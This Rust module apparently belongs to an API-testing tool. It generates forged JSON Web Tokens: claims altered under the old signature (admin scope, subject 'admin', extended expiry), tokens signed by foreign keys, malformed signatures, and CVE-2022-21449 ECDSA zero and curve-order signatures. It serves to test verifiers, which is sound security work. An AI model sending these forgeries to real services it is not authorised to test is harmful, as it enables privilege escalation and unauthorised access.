//! Tokens whose signature is not that of what they say: another's, an older one's, or one made up.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::Algorithm;
use serde_json::json;

use crate::error::Error;
use crate::public_key::{PublicKey, der_integers};
use crate::signing_key::SigningKey;
use crate::token::{Forged, Token};

/// The order of P-256 (FIPS 186-4, D.1.2.3), which is zero where signatures are computed.
const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc,
    0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

pub(crate) fn tokens(good: &Token, issuer: &PublicKey, attacker: &SigningKey) -> Result<Vec<Forged>, Error> {
    let mut forged = old_signature(good);
    forged.extend(foreign_keys(good, attacker)?);
    let signature = URL_SAFE_NO_PAD.decode(&good.parts[2]).map_err(|_| Error::Malformed)?;
    forged.extend(match issuer {
        PublicKey::Rsa { modulus, .. } => made_up_rsa(good, modulus),
        PublicKey::P256 { .. } => made_up_ecdsa(good, &signature),
    });
    forged.push(Forged::new("half of the signature", good.signed(&signature[..signature.len() / 2])));
    forged.push(Forged::new("signature with a byte more", good.signed([&signature[..], &[0]].concat())));
    Ok(forged)
}

/// The good signature over other claims or another header.
fn old_signature(good: &Token) -> Vec<Forged> {
    let expires = good.claims["exp"].as_u64().unwrap_or_default();
    let claims = good.claims.to_string();
    // The claims once more before themselves: parsers differ in which of two they believe.
    let twice = |first: &str| claims.replacen('{', &format!("{{{first},"), 1);
    let changed = [
        ("a year more", good.claims_with("exp", expires.saturating_add(31_536_000)).to_string()),
        ("no expiry", good.claims_with("exp", json!(null)).to_string()),
        ("more scopes", good.claims_with("scope", "admin read:items write:items").to_string()),
        ("another audience", good.claims_with("aud", "https://attacker.invalid").to_string()),
        ("another issuer", good.claims_with("iss", "https://attacker.invalid/").to_string()),
        ("another subject", good.claims_with("sub", "admin").to_string()),
        ("the scope twice", twice(r#""scope":"admin""#)),
        ("the expiry twice", twice(r#""exp":4102444800"#)),
        ("a space more", format!("{claims} ")),
        ("no claims", "{}".to_owned()),
    ];
    let mut forged: Vec<Forged> = changed
        .into_iter()
        .map(|(what, claims)| Forged::new(format!("old signature, {what}"), good.around(claims)))
        .collect();
    let header = good.header_with("x-restctl", true);
    forged.push(Forged::new("old signature, a header parameter more", good.under(&header)));
    forged
}

/// Good claims under the known key id, by keys that the issuer never saw.
fn foreign_keys(good: &Token, attacker: &SigningKey) -> Result<Vec<Forged>, Error> {
    let (p256, rsa) = (SigningKey::p256()?, SigningKey::rsa()?);
    let mut forged = Vec::new();
    for (key, algorithm, name) in [
        (&p256, Algorithm::ES256, "ES256"),
        (&rsa, Algorithm::RS256, "RS256"),
        (&rsa, Algorithm::PS256, "PS256"),
        (&SigningKey::ed25519()?, Algorithm::EdDSA, "EdDSA"),
    ] {
        let token = key.token_by(algorithm, &good.header_with("alg", name), &good.claims)?;
        forged.push(Forged::new(format!("foreign key, {name}"), token));
    }
    let of_another = attacker.token(&good.header, good.claims_with("sub", "admin"))?;
    forged.push(Forged::new("foreign key, another subject", of_another));
    Ok(forged)
}

/// CVE-2022-21449: numbers for which a verifier that does not check their range computes what it wants to see.
fn made_up_ecdsa(good: &Token, signature: &[u8]) -> Vec<Forged> {
    let (r, s) = signature.split_at(signature.len() / 2);
    let mut one = [0; 64];
    one[31] = 1;
    one[63] = 1;
    vec![
        Forged::new("ECDSA signature of zeros", good.signed([0; 64])),
        Forged::new("ECDSA signature of the curve's order", good.signed([P256_ORDER, P256_ORDER].concat())),
        Forged::new("ECDSA signature of ones", good.signed(one)),
        Forged::new("ECDSA signature of zeros in DER", good.signed(der_integers(&[0], &[0]))),
        Forged::new("ECDSA signature in DER", good.signed(der_integers(r, s))),
        Forged::new("ECDSA signature, halves swapped", good.signed([s, r].concat())),
    ]
}

fn made_up_rsa(good: &Token, modulus: &[u8]) -> Vec<Forged> {
    let mut one = vec![0; modulus.len()];
    if let Some(last) = one.last_mut() {
        *last = 1;
    }
    vec![
        Forged::new("RSA signature of zeros", good.signed(vec![0; modulus.len()])),
        Forged::new("RSA signature of one", good.signed(one)),
        Forged::new("RSA signature of the modulus", good.signed(modulus)),
        Forged::new("RSA signature of a single zero", good.signed([0])),
    ]
}
